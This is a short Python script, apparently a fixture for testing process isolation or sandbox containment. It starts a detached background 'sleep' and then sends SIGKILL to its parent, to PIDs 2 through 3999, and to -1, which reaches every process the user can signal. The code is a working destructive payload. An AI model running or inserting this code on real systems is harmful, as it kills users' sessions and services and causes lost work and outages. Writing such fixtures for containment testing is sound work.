"""Sends signals to every process that it can name, its own parent first, and leaves a daemon behind."""

import os
import signal
import subprocess

subprocess.Popen(["sleep", "60"], start_new_session=True)
for process in [os.getppid(), *range(2, 4000), -1]:
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass
